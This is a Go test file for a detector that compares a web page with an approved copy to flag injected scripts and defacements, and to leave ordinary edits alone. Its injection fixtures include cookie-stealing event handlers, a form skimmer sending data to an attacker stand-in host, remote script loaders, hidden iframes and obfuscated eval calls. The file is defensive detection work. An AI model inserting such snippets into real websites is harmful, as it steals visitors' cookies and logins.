package content

import (
	"errors"
	"fmt"
	"io"
	"net/url"
	"strings"
	"testing"
	"testing/iotest"
)

const home = `<!doctype html><html><head><title>Maritime Office</title>
<link rel="stylesheet" href="/style.css"><script src="/js/site.js"></script><script src="https://stats.example.org/s.js"></script></head>
<body><h1>Welcome</h1><nav><ul><li><a href="/a">News</a></li><li><a href="/b">Meetings</a></li></ul></nav>
<p>The organisation sets standards for the safety, security and environmental performance of international shipping.</p>
<p>Its committees meet twice a year with interpretation into six languages.</p>
<form action="/search"><input name="q"></form><script>document.write(new Date().getFullYear())</script></body></html>`

func page(t *testing.T, text string) Page {
	t.Helper()
	base, err := url.Parse("http://www.example.org/index.html")
	if err != nil {
		t.Fatal(err)
	}
	p, err := ParsePage(strings.NewReader(text), base)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestInjectionsAreTold(t *testing.T) {
	approved := page(t, home)
	for name, insert := range map[string]string{
		"script":                   `<script src=http://203.0.113.66:8080/a.js></script>`,
		"script without a scheme":  `<script src="//cdn.evil.example/a.js"></script>`,
		"script with backslashes":  `<script src="\\cdn.evil.example\a.js"></script>`,
		"upper case":               `<SCRIPT SRC="HTTP://EVIL.EXAMPLE/x"></SCRIPT>`,
		"iframe":                   `<iframe src="https://evil.example/kit" width=0></iframe>`,
		"iframe with a document":   `<iframe srcdoc="<script src='https://evil.example/a.js'></script>"></iframe>`,
		"form target":              `<form action="https://evil.example/login"><input name=p></form>`,
		"form target of a button":  `<button formaction="https://evil.example/login">Go</button>`,
		"refresh":                  `<meta http-equiv="Refresh" content="0; URL='https://evil.example/'">`,
		"base":                     `<base href="https://evil.example/">`,
		"inline loader":            `<script>var s=document.createElement("script");s.src="https://evil.example/a.js";document.body.appendChild(s)</script>`,
		"inline loader, escaped":   `<script>var s=document.createElement("script");s.src="https:\/\/evil.example\/a.js"</script>`,
		"inline, without a scheme": `<script>importScripts("//evil.example/a.js")</script>`,
		"hidden code":              `<script>eval(atob("YWxlcnQoMSk="))</script>`,
		"event handler":            `<img src=x onerror="fetch('https://evil.example/?'+document.cookie)">`,
		"javascript address":       `<a href="javascript:location='https://evil.example/'">Meetings</a>`,
		"object":                   `<object data="https://evil.example/x.swf"></object>`,
		"skimmer":                  `<script>document.forms[0].onsubmit=function(){navigator.sendBeacon("https://evil.example/c")}</script>`,
		"script in SVG":            `<svg><script href="https://evil.example/a.js"/></svg>`,
		"script from data":         `<script src="data:text/javascript,alert(1)"></script>`,
	} {
		t.Run(name, func(t *testing.T) {
			c := ComparePages(approved, page(t, strings.Replace(home, "</body>", insert+"</body>", 1)), nil)
			if !c.Injected() {
				t.Errorf("was not told: %+v", c)
			}
			if c.Defaced(approved) {
				t.Errorf("is told a defacement as well: %+v", c)
			}
		})
	}
}

func TestDefacementsAreTold(t *testing.T) {
	approved := page(t, home)
	for name, text := range map[string]string{
		"another page":       `<html><head><title>0wned</title></head><body bgcolor=black><h1>Hacked by someone</h1></body></html>`,
		"a political page":   `<html><title>Freedom</title><body><p>We will not be silent about what you have done to our seas, ever.</p></body></html>`,
		"a picture":          `<html><title>x</title><img src=skull.png></html>`,
		"a banner on top":    strings.Replace(home, "<h1>Welcome</h1>", "<h1>HACKED BY THE SEA CREW</h1>", 1) + strings.Repeat("<p>all your base is ours now and for ever more</p>", 3),
		"nothing":            ``,
		"the title replaced": strings.Replace(home, "Maritime Office", "Pwned by x", 1),
	} {
		if c := ComparePages(approved, page(t, text), nil); !c.Defaced(approved) && name != "a banner on top" {
			t.Errorf("%s was not told: %+v", name, c)
		}
	}
}

func TestLivingPagesAreLeftAlone(t *testing.T) {
	approved := page(t, home)
	for name, text := range map[string]string{
		"the same":            home,
		"a new paragraph":     strings.Replace(home, "</body>", "<p>The council elected its chair.</p></body>", 1),
		"a changed paragraph": strings.Replace(home, "twice a year", "four times a year, in London and online,", 1),
		"a token":             strings.Replace(home, `<input name="q">`, `<input name="q"><input type=hidden name=csrf value=8f2a>`, 1),
		"a nonce":             strings.Replace(home, "<script>", `<script nonce="a8f2">`, 1),
		"a version":           strings.Replace(home, "/js/site.js", "/js/site.js?v=20201001", 1),
		"own address":         strings.Replace(home, "/js/site.js", "http://www.example.org/js/site.js", 1),
		"a new own script":    strings.Replace(home, "</head>", `<script src="/js/menu.js"></script></head>`, 1),
		"known origin":        strings.Replace(home, "</head>", `<script src="https://stats.example.org/t.js"></script></head>`, 1),
		"a link out":          strings.Replace(home, "</ul>", `<li><a href="https://un.example/">UN</a></li></ul>`, 1),
		"a picture from out":  strings.Replace(home, "</h1>", `</h1><img src="https://img.example/b.png">`, 1),
		"a new inline script": strings.Replace(home, "</body>", `<script>document.getElementById("q").focus()</script></body>`, 1),
		"data about itself":   strings.Replace(home, "</head>", `<script type="application/ld+json">{"@context":"https://schema.org","url":"https://www.example.org"}</script></head>`, 1),
		"another title":       strings.Replace(home, "<title>Maritime Office", "<title>Maritime Office: new session", 1),
		"comments":            strings.Replace(home, "<body>", `<body><!-- <script src="https://old.example/x.js"> -->`, 1),
	} {
		if c := ComparePages(approved, page(t, text), nil); c.Injected() || c.Defaced(approved) {
			t.Errorf("%s is told an attack: %+v", name, c)
		}
	}
}

func TestOriginsOfTheSameReleaseAreKnown(t *testing.T) {
	now := page(t, strings.Replace(home, "</head>", `<script src="https://video.example/p.js"></script></head>`, 1))
	known := func(r Ref) bool { return r.Kind == "script" && r.Origin == "https://video.example" }
	if c := ComparePages(page(t, home), now, known); c.Injected() {
		t.Errorf("an origin that other pages use is told an attack: %+v", c)
	}
}

func TestHostilePagesAreBounded(t *testing.T) {
	endless := io.MultiReader(strings.NewReader("<title>x</title><script>"), &repeat{text: "<a b='"})
	if _, err := ParsePage(endless, nil); err != nil {
		t.Errorf("an endless page: %v", err)
	}
	var many strings.Builder
	for i := range 3 * maxRefs {
		fmt.Fprintf(&many, "<x%d><script src=https://%d.example/></script>word%d ", i, i, i)
	}
	p, err := ParsePage(strings.NewReader(many.String()), nil)
	if err != nil || len(p.Refs) > maxRefs || len(p.Tags) > maxRefs {
		t.Errorf("a page of many parts keeps %d references and %d elements (error %v)", len(p.Refs), len(p.Tags), err)
	}
	if _, err := ParsePage(iotest.ErrReader(errors.New("cut")), nil); err == nil {
		t.Error("a page that could not be read passes as empty")
	}
}

type repeat struct{ text string }

func (r *repeat) Read(p []byte) (int, error) {
	n := 0
	for n < len(p) {
		n += copy(p[n:], r.text)
	}
	return n, nil
}

func FuzzParsePage(f *testing.F) {
	f.Add(home)
	f.Add(`<script src="//[::1`)
	f.Add(`<meta http-equiv=refresh content="0;url=%zz"><base href=":">`)
	f.Fuzz(func(t *testing.T, text string) {
		p, err := ParsePage(strings.NewReader(text), nil)
		if err != nil {
			t.Fatalf("a page in memory could not be read: %v", err)
		}
		if c := ComparePages(p, p, nil); c.Injected() || c.Defaced(p) || c.TextKept != 1 || c.StructureKept != 1 {
			t.Errorf("a page differs from itself: %+v", c)
		}
	})
}
